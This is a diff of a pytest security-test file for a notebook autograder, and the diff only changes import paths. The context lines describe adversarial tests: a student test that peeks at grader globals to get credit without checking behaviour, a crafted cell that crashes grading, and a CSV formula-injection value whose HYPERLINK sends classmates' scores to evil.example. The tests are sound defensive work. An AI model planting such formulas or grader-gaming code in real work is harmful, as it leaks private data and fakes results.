@@ -28,7 +28,7 @@ import uuid
 import pytest
 
 from conftest import ROOT, notebook_with
-from autograder.sandbox import Sandbox, SandboxBroken, SandboxUnavailable, SubmissionFault
+from autograder.isolate.sandbox import Sandbox, SandboxBroken, SandboxUnavailable, SubmissionFault
 
 GiB = 1024 ** 3
 MiB = 1024 ** 2
@@ -377,7 +377,7 @@ def test_lesson06_credit_needs_a_behavioural_test(tmp_path):
     """[R U D] The lesson-06 subjects are sent into the student's process, where a test can read
     their module global ROUTE (or their source, via the executor it can monkeypatch) instead of
     running them: full marks for test_projections without testing any behaviour."""
-    from autograder.grading import grade_student
+    from autograder.pipeline import grade_student
     nb = notebook_with(LESSON6, {"test_projections": PEEKING_TEST}, tmp_path / "student")
     sandbox = Sandbox(memory_bytes=GiB)
     try:
@@ -395,7 +395,7 @@ def test_a_crafted_cell_costs_only_its_own_notebook(tmp_path):
     chains) on a graded cell; notebook.defined_names catches only SyntaxError and ValueError, so
     build_program raises and grade_student zeroes every lesson of the student, calling it an
     autograder failure. Per-notebook containment (issue 10, part 4) does not hold."""
-    from autograder.grading import grade_student
+    from autograder.pipeline import grade_student
     folder = tmp_path / "student"
     bad = notebook_with("01_scaled_dot_product_attention", {"softmax": "x = " + "-" * 100_000 + "1\n"}, folder)
     good = folder / "02_masking.ipynb"
@@ -473,7 +473,7 @@ def test_gradescope_survives_a_crafted_upload(tmp_path):
     for p in (tmp_path, sub):
         p.chmod(0o755)
     env = dict(os.environ, PYTHONPATH=str(ROOT))
-    run = subprocess.run([sys.executable, "-m", "autograder.gradescope", "--submission", str(sub),
+    run = subprocess.run([sys.executable, "-m", "autograder.deliver.gradescope", "--submission", str(sub),
                           "--results", str(results)], cwd=ROOT, capture_output=True, text=True,
                          timeout=180, env=env)
     assert run.returncode == 0, run.stderr[-2000:]
@@ -515,7 +515,7 @@ def test_grades_csv_cannot_carry_spreadsheet_formulas():
     """[R U D] (low) A student folder name becomes the first cell of the student's row in
     grades.csv, written as is: a name starting with = + - @ is a formula when the instructor opens
     the file in a spreadsheet (a HYPERLINK that sends the classmates' scores away, DDE)."""
-    from autograder.classroom import grades_csv
+    from autograder.classroom.runner import grades_csv
     import csv
     import io
     name = '=HYPERLINK("https://evil.example/?"&B3&C3,"open")'
